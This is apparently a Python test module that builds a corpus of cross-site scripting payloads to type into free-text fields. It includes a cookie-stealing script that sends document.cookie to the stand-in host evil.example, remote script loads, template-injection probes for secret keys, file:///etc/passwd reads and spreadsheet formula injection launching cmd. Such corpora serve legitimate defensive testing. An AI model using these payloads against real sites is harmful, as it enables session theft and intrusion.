"""A corpus of cross-site scripting payloads, built from the classic families.

Each payload is typed into every free-text field; the pages and documents that
show those fields must show the text, never execute or embed it.
"""

from __future__ import annotations

_BASE = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=https://evil.example/x.js></SCRIPT>",
    "<script>document.location='https://evil.example/?c='+document.cookie</script>",
    "<img src=x onerror=alert(1)>",
    '<img src="x" onerror="alert(1)">',
    "<img src=x:alert(1) onerror=eval(src)>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<body onload=alert(1)>",
    "<iframe src=javascript:alert(1)>",
    '<iframe srcdoc="<script>alert(1)</script>">',
    '<a href="javascript:alert(1)">click</a>',
    '<a href="JaVaScRiPt:alert(1)">click</a>',
    '<a href="&#106;avascript:alert(1)">click</a>',
    "<details open ontoggle=alert(1)>",
    "<input autofocus onfocus=alert(1)>",
    "<select autofocus onfocus=alert(1)>",
    "<textarea autofocus onfocus=alert(1)>",
    "<video><source onerror=alert(1)>",
    "<audio src=x onerror=alert(1)>",
    "<object data=javascript:alert(1)>",
    "<embed src=javascript:alert(1)>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<form action=javascript:alert(1)><button>x</button></form>",
    "<button formaction=javascript:alert(1)>x</button>",
    '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
    "<base href=https://evil.example/>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<link rel=attachment href=file:///etc/passwd>",
    "<style>@import 'https://evil.example/x.css';</style>",
    "<style>body{background:url(https://evil.example/x)}</style>",
    '<div style="background:url(javascript:alert(1))">',
    "<marquee onstart=alert(1)>",
    "<isindex type=image src=1 onerror=alert(1)>",
    "<keygen autofocus onfocus=alert(1)>",
    "<xss onmouseover=alert(1)>hover</xss>",
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    "<template><script>alert(1)</script></template>",
    "<plaintext><script>alert(1)</script>",
    "<img src=file:///etc/passwd>",
    '<img src="http://127.0.0.1:9/leak">',
    "<object data=file:///etc/passwd>",
    "javascript:alert(1)",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "vbscript:msgbox(1)",
    "{{7*7}}",
    "{{ config.SECRET_KEY }}",
    "{% raw %}{{ 7*7 }}{% endraw %}",
    "${alert(1)}",
    "#{alert(1)}",
    "<%= 7*7 %>",
    "';alert(1);//",
    '";alert(1);//',
    "\\';alert(1);//",
    "</script><script>alert(1)</script>",
    "</textarea><script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    "</style><script>alert(1)</script>",
    "--><script>alert(1)</script>",
    "]]><script>alert(1)</script>",
    "<!--<script>alert(1)//-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "＜script＞alert(1)＜/script＞",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<script\x0d>alert(1)</script>",
    "<img\tsrc=x\tonerror=alert(1)>",
    "<img/src=x/onerror=alert(1)>",
    "\u202e<script>alert(1)</script>",
    "=cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    '+HYPERLINK("https://evil.example")',
]
_BREAKOUTS = ['">', "'>", '" autofocus onfocus="alert(1)', "' onmouseover='alert(1)", "</a>", "</p>", "</li>", "</td>"]
_TAILS = [
    "<script>alert(2)</script>",
    "<img src=x onerror=alert(2)>",
    "<svg/onload=alert(2)>",
    "<iframe src=javascript:alert(2)>",
]


def corpus() -> list[str]:
    """Return the payloads: the base families plus attribute and element break-outs."""
    payloads = list(_BASE)
    for breakout in _BREAKOUTS:
        for tail in _TAILS:
            payloads.append(breakout + tail)
    seen: set[str] = set()
    return [p for p in payloads if not (p in seen or seen.add(p))]


PAYLOADS = corpus()
assert len(PAYLOADS) >= 100, len(PAYLOADS)
